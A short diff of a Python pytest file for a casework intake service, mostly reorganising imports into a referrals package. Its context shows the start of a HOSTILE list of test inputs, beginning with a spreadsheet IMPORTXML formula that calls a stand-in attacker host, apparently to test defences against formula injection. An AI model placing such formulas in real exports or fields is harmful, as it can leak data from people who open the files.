@@ -5,10 +5,11 @@ from datetime import timedelta
 
 import pytest
 
-from service.casework import intake
-from service.casework.desk import Wanted
 from service.casework.records import OFFICE
-from tests.casework.a_desk import NOW, Office, case, response
+from service.casework.referrals import intake
+from service.casework.referrals.context import Wanted
+
+from .a_desk import NOW, Office, case, response
 
 HOSTILE = [
     '=IMPORTXML("https://evil.example","//x")',
